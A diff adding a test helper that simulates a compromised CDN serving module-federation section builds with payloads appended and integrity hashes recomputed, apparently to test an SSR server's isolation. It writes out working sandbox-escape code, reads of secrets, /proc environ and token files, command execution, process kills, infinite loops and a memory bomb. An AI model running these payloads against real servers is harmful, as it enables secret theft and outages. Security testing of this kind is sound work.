@@ -1,0 +1,172 @@
+import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { builtRemote } from '@portico/testing/built-apps';
+import { serveDist, type DistServer } from '@portico/testing/serve-dist';
+
+type SectionFolder = 'remote-home' | 'remote-about' | 'remote-contact';
+
+interface Manifest {
+  metaData: { ssrRemoteEntry: { name: string; path: string; integrity: string } };
+}
+
+/**
+ * A CDN of section builds as an attacker who controls one section's CDN
+ * serves them: each variant is a real section's node build with a payload
+ * appended, named and hashed as its manifest says (as a compromised team or
+ * CDN would publish it), so every check the server makes on its way in
+ * passes and the payload runs.
+ */
+export class HostileCdn {
+  private constructor(
+    private readonly root: string,
+    private readonly server: DistServer,
+  ) {}
+
+  static async start(): Promise<HostileCdn> {
+    const root = mkdtempSync(path.join(tmpdir(), 'portico-hostile-cdn-'));
+    return new HostileCdn(root, await serveDist(root));
+  }
+
+  get origin(): string {
+    return this.server.origin;
+  }
+
+  /** The paths asked for, in order: what the server fetched. */
+  get requests(): readonly string[] {
+    return this.server.requests;
+  }
+
+  /**
+   * Publishes `section`'s real build with `payload` appended as `variant`;
+   * resolves the URL of its mf-manifest.json. An empty payload publishes the
+   * build as it is.
+   */
+  publish(variant: string, section: SectionFolder, payload = '', manifestPadding = 0): string {
+    const dist = builtRemote(section);
+    const manifest = JSON.parse(readFileSync(path.join(dist, 'mf-manifest.json'), 'utf8')) as Manifest & Record<string, unknown>;
+    const entry = manifest.metaData.ssrRemoteEntry;
+    const code = `${readFileSync(path.join(dist, entry.path, entry.name), 'utf8')}\n${payload}`;
+    const integrity = `sha384-${createHash('sha384').update(code).digest('base64')}`;
+    const name = `remoteEntry.${createHash('sha384').update(code).digest('hex').slice(0, 10)}.js`;
+    const folder = path.join(this.root, variant);
+    mkdirSync(path.join(folder, entry.path), { recursive: true });
+    writeFileSync(path.join(folder, entry.path, name), code);
+    manifest.metaData.ssrRemoteEntry = { ...entry, name, integrity };
+    // A manifest grown to a given size (a field the checks ignore): the inlining cap's test.
+    if (manifestPadding > 0) manifest.padding = 'x'.repeat(manifestPadding);
+    writeFileSync(path.join(folder, 'mf-manifest.json'), JSON.stringify(manifest));
+    return `${this.origin}/${variant}/mf-manifest.json`;
+  }
+
+  async close(): Promise<void> {
+    await this.server.close();
+    rmSync(this.root, { recursive: true, force: true });
+  }
+}
+
+/** What a payload wraps the container's Section with: `Section` is the real one, `findings` what the payload found. */
+const wrapSection = (render: string) => `
+  // webpack defines the container's init and get as getters: the payload puts a container of its own in its place.
+  const container = module.exports;
+  let shared;
+  module.exports = {
+    init: (scope) => {
+      shared = scope;
+      return container.init(scope);
+    },
+    get: (request) =>
+      Promise.resolve(container.get(request)).then((factory) => () => {
+        const real = factory();
+        const Section = real.Section;
+        const sharedConfig = () => Object.values(shared['@portico/shared-config'])[0].get()();
+        return { ...real, Section: function Hostile() { ${render} } };
+      }),
+  };
+`;
+
+export interface StealTargets {
+  /** A secret in the front server's environment. */
+  secretName: string;
+  /** Files the section must not read: the data folder's admin token, a file of the repository. */
+  files: string[];
+  /** The front server's process, and another one's to signal. */
+  frontPid: number;
+  otherPid: number;
+  /** Where the contact endpoint and a control endpoint listen (loopback). */
+  ports: number[];
+}
+
+/**
+ * The review's attack: leave the context, then read the environment, the
+ * front server's /proc environ, the data folder and the repository; run a
+ * command; connect to the server's endpoints; signal processes. Whatever
+ * each attempt got (or why not) is rendered into the section's HTML after
+ * `STOLEN:`, the way the review rendered the stolen messages into the page.
+ */
+export function stealPayload(targets: StealTargets): string {
+  return `;(function () {
+  const findings = {};
+  const attempt = (name, run) => {
+    try {
+      findings[name] = String(run()).slice(0, 300);
+    } catch (error) {
+      findings[name] = 'refused: ' + String((error && (error.code || error.name)) || error);
+    }
+  };
+  let proc;
+  attempt('escape through console', () => { proc = console.log.constructor('return process')(); return typeof proc; });
+  attempt('escape through Function', () => { proc = proc || Function('return process')(); return typeof proc; });
+  attempt('escape through a shared module', () => { proc = proc || (() => {}).constructor.constructor('return process')(); return typeof proc; });
+  attempt('globals', () => [typeof process, typeof require, typeof fetch, typeof setTimeout].join(' '));
+  if (proc) {
+    const load = (name) => proc.mainModule ? proc.mainModule.require(name) : proc.getBuiltinModule(name);
+    attempt('env', () => proc.env[${JSON.stringify(targets.secretName)}]);
+    attempt('environ', () => load('fs').readFileSync('/proc/' + ${targets.frontPid} + '/environ', 'utf8'));
+    attempt('parent environ', () => load('fs').readFileSync('/proc/' + proc.ppid + '/environ', 'utf8'));
+    ${targets.files.map((file, index) => `attempt('file ${index}', () => load('fs').readFileSync(${JSON.stringify(file)}, 'utf8'));`).join('\n    ')}
+    attempt('command', () => load('child_process').execSync('id').toString());
+    ${targets.ports.map((port) => `attempt('connect ${port}', () => { load('net').connect(${port}, '127.0.0.1').on('error', () => {}); return 'tried'; });`).join('\n    ')}
+    attempt('signal other', () => proc.kill(${targets.otherPid}, 'SIGKILL'));
+    attempt('signal parent', () => proc.kill(proc.ppid, 'SIGKILL'));
+  }
+  ${wrapSection("return [Section(), 'STOLEN:' + JSON.stringify(findings)];")}
+})();`;
+}
+
+/** A render that never ends. */
+export const RENDER_LOOP = `;(function () { ${wrapSection('for (;;) {}')} })();`;
+
+/** Module evaluation that never ends: a plain loop, and a loop of microtasks (which no evaluation timeout stops). */
+export const TOP_LEVEL_LOOP = ';for (;;) {}';
+export const MICROTASK_LOOP = ';(function spin() { Promise.resolve().then(spin); })();';
+
+/** A render that takes ArrayBuffers (outside V8's heap limit) until it is stopped: a gigabyte and more. */
+export const MEMORY_BOMB = `;(function () { ${wrapSection('const held = []; for (;;) held.push(new Uint8Array(10 * 1024 * 1024).fill(1));')} })();`;
+
+/**
+ * A section that writes to what it is given (the host's texts and the
+ * config) while it renders, then renders as usual with a mark of how many
+ * times it rendered. Sloppy-mode code: a write to a frozen object fails
+ * silently here, as it would in most bundles.
+ */
+export const MUTATION = `;(function () {
+  let renders = 0;
+  ${wrapSection(`
+    const sc = sharedConfig();
+    const text = sc.useText();
+    const config = sc.useConfig();
+    try { text.nav.tabs.home += '*'; } catch (error) {}
+    try { config.comName += '*'; } catch (error) {}
+    try { sc.SECTION_IDS.push('evil'); } catch (error) {}
+    renders += 1;
+    return [Section(), 'RENDER ' + renders + ' saw ' + text.nav.tabs.home + ' and ' + config.comName];
+  `)}
+})();`;
+
+/** A section whose HTML is `bytes` long (text React escapes as it is). */
+export const bigOutput = (bytes: number) => `;(function () { ${wrapSection(`return [Section(), 'x'.repeat(${bytes})];`)} })();`;
+
+/** A build that says, as it is evaluated, which one it is (its worker's output reaches the server's log). */
+export const announce = (name: string) => `;console.log(${JSON.stringify(`build ${name} evaluated`)});`;
